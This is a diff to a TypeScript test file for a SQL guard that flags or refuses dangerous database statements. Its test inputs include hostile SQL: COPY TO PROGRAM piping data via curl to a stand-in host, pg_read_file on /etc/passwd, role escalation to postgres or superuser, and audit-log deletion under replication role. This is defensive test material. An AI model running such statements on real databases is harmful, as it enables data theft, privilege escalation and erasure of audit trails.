@@ -2,14 +2,14 @@
 // names and expressions the table editor accepts. Pure: the parser, no database.
 import { describe, expect, test } from "bun:test";
 import { maskLiterals } from "../src/audit/mask.ts";
-import { inspectBatch, type DangerKind } from "../src/meta/guard.ts";
+import { inspectBatch, isRefusal, type FindingKind } from "../src/meta/guard.ts";
 import { parseBatch } from "../src/meta/parser.ts";
 import { expression, typeName } from "../src/meta/user-sql.ts";
 
-const kinds = async (sql: string): Promise<DangerKind[]> => (await inspectBatch(await parseBatch(sql))).map((f) => f.kind);
+const kinds = async (sql: string): Promise<FindingKind[]> => (await inspectBatch(await parseBatch(sql))).map((f) => f.kind);
 
 describe("guard: one case per kind", () => {
-  const cases: [string, DangerKind][] = [
+  const cases: [string, FindingKind][] = [
     ["drop table posts", "drop"],
     ["drop index if exists posts_idx", "drop"],
     ["drop function f(int)", "drop"],
@@ -22,8 +22,11 @@ describe("guard: one case per kind", () => {
     ["alter table posts drop column body", "alter_drop"],
     ["alter table posts drop constraint posts_pkey", "alter_drop"],
     ["alter system set work_mem = '1GB'", "alter_system"],
-    ["copy posts to program 'curl -d @- evil.example'", "copy_program"],
     ["grant all on posts to public", "grant_public"],
+    ["grant all on posts to anon", "grant_api_role"],
+    ["alter table posts disable row level security", "disable_rls"],
+    ["create policy p on posts using (true)", "permissive_policy"],
+    ["alter role anon bypassrls", "role_attribute"],
     ["do language plpython3u $$ import os $$", "do_block"],
   ];
   for (const [sql, kind] of cases) {
@@ -42,8 +45,16 @@ describe("guard: harmless statements pass", () => {
     "insert into posts (title) values ('drop table posts')",
     "create table t (id int primary key)",
     "alter table posts add column body text, alter column title drop default",
-    "grant select on posts to authenticated",
+    "grant select on posts to service_role",
     "copy posts to stdout",
+    "create policy own on posts using (owner = auth.uid())",
+    "create policy narrow on posts as restrictive using (true)",
+    "create role reader nologin",
+    "set local role anon",
+    "set role authenticated",
+    "reset all",
+    "select set_config('request.jwt.claims', '{}', true)",
+    "select set_config('role', 'service_role', true)",
     "explain delete from posts",
     "explain (analyze false) update posts set title = 'x'",
     "select $$; drop table posts; $$",
@@ -138,6 +149,80 @@ describe("guard: tricky cases", () => {
     const [f] = await inspectBatch(await parseBatch("  TRUNCATE posts ;"));
     expect(f).toMatchObject({ index: 0, statement: "TRUNCATE posts", kind: "truncate", tables: [{ schema: null, name: "posts" }] });
     expect(f!.reason).toContain("every row");
+  });
+});
+
+describe("guard: refused whatever is confirmed (server files, role changes, replication role)", () => {
+  const cases: [string, FindingKind][] = [
+    ["select pg_read_file('/etc/passwd')", "server_file_access"],
+    ["select pg_catalog.pg_read_binary_file('/etc/passwd')", "server_file_access"],
+    ["select * from pg_ls_dir('/')", "server_file_access"],
+    ["select pg_stat_file('/etc/passwd')", "server_file_access"],
+    ["select lo_import('/etc/passwd')", "server_file_access"],
+    ["select lo_export(1, '/tmp/x')", "server_file_access"],
+    ["select dblink_exec('dbname=postgres', 'drop table t')", "server_file_access"],
+    ["copy posts to '/tmp/x'", "server_file_access"],
+    ["copy posts from '/etc/passwd'", "server_file_access"],
+    ["copy posts to program 'curl -d @- evil.example'", "server_file_access"],
+    ["copy posts from program 'id'", "server_file_access"],
+    ["create extension dblink", "server_file_access"],
+    ["set session_replication_role = replica", "replication_role"],
+    ["set local session_replication_role = replica", "replication_role"],
+    ["select set_config('session_replication_role', 'replica', true)", "replication_role"],
+    ["reset role", "role_change"],
+    ["set role postgres", "role_change"],
+    ["set local role postgres", "role_change"],
+    ["set role none", "role_change"],
+    ["set session authorization postgres", "role_change"],
+    ["reset session authorization", "role_change"],
+    ["select set_config('role', 'postgres', false)", "role_change"],
+    ["select set_config($1, 'postgres', false)", "role_change"],
+    ["alter role plinth_console set role = 'postgres'", "role_change"],
+    ["alter database postgres set session_replication_role = replica", "replication_role"],
+  ];
+  for (const [sql, kind] of cases) {
+    test(`${kind}: ${sql}`, async () => {
+      const findings = await inspectBatch(await parseBatch(sql));
+      expect(findings.map((f) => f.kind)).toEqual([kind]);
+      expect(findings.every(isRefusal)).toBe(true);
+    });
+  }
+
+  test("inside DO blocks and EXECUTE of a constant too", async () => {
+    expect(await kinds("do $$ begin perform pg_read_file('/etc/passwd'); end $$")).toEqual(["server_file_access"]);
+    expect(await kinds("do $$ begin execute 'set role postgres'; end $$")).toEqual(["role_change"]);
+    expect(await kinds("do $$ begin set session_replication_role = replica; delete from plinth.audit_log; end $$")).toEqual([
+      "replication_role",
+      "delete_without_where",
+    ]);
+  });
+});
+
+describe("guard: access that needs confirm", () => {
+  test("grants to the API's client roles, of privileges, of roles and by default", async () => {
+    expect(await kinds("grant select, insert on posts to authenticated")).toEqual(["grant_api_role"]);
+    expect(await kinds("grant service_role to anon")).toEqual(["grant_api_role"]);
+    expect(await kinds("alter default privileges in schema public grant all on tables to anon")).toEqual(["grant_api_role"]);
+    expect(await kinds("revoke all on posts from anon")).toEqual([]);
+  });
+
+  test("RLS switched off, or the owner exempted", async () => {
+    expect(await kinds("alter table posts no force row level security")).toEqual(["disable_rls"]);
+    expect(await kinds("alter table posts enable row level security, force row level security")).toEqual([]);
+  });
+
+  test("permissive constant policies; ALTER POLICY to a constant", async () => {
+    expect(await kinds("create policy p on posts for insert with check (true)")).toEqual(["permissive_policy"]);
+    expect(await kinds("create policy p on posts using (1 = 1)")).toEqual(["permissive_policy"]);
+    expect(await kinds("create policy p on posts using (false)")).toEqual([]);
+    expect(await kinds("alter policy p on posts using (true)")).toEqual(["permissive_policy"]);
+  });
+
+  test("role attributes: any ALTER ROLE attribute, CREATE ROLE with powers", async () => {
+    expect(await kinds("alter role authenticated superuser")).toEqual(["role_attribute"]);
+    expect(await kinds("alter role bob login password 'x'")).toEqual(["role_attribute"]);
+    expect(await kinds("create role sneaky bypassrls")).toEqual(["role_attribute"]);
+    expect(await kinds("create role quiet nosuperuser nologin")).toEqual([]);
   });
 });
 
